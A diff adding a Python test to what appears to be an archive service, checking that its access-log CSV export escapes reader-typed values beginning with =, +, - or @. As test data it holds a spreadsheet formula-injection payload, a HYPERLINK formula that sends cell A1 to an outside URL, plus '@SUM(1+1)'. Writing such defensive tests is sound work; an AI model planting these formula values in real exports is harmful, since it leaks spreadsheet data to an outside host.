@@ -283,3 +283,28 @@ def test_an_admin_is_never_given_fonds_that_would_look_like_a_limit(client: Test
     assert client.get("/api/users", headers=admin).json()[0]["role"] == "archivist", "nothing changed"
     promoted = client.patch(f"/api/users/{quote('村支书')}", json={"role": "admin", "fonds": []}, headers=admin)
     assert promoted.status_code == 200 and promoted.json()["fonds"] == []
+
+
+def test_the_access_log_csv_opens_in_excel_without_running_what_a_reader_typed(
+    client: TestClient, station_env: Settings
+) -> None:
+    """利用目的 is typed by any reader (?purpose=); a cell starting with = + - @ is a formula in Excel."""
+    archivist = token(station_env, "archivist")
+    _import(client, GOOD, archivist)
+    evil = '=HYPERLINK("http://example.org/?"&A1,"查看")'
+    with session_scope(station_env.effective_database_url) as session:
+        from scanner_service.archive import access
+        from scanner_service.archive.access import Caller
+        from scanner_service.archive.models import Role
+
+        item = session.scalars(select(Item)).first()
+        assert item is not None
+        access.log_access(session, Caller(name="@SUM(1+1)", role=Role.reader), item, "pdf", purpose=evil)
+    csv_text = client.get("/api/access-log", params={"format": "csv"}, headers=archivist).text
+    import csv as csv_module
+
+    [row] = list(csv_module.reader(io.StringIO(csv_text.lstrip("\ufeff"))))[1:]
+    assert row[1] == "'@SUM(1+1)" and row[8] == "'" + evil, row
+    assert row[4] == "C015-WS·2013-Y-BGS-0001", "ordinary cells are as they are"
+    json_rows = client.get("/api/access-log", headers=archivist).json()
+    assert json_rows[0]["purpose"] == evil, "the JSON keeps what was typed"
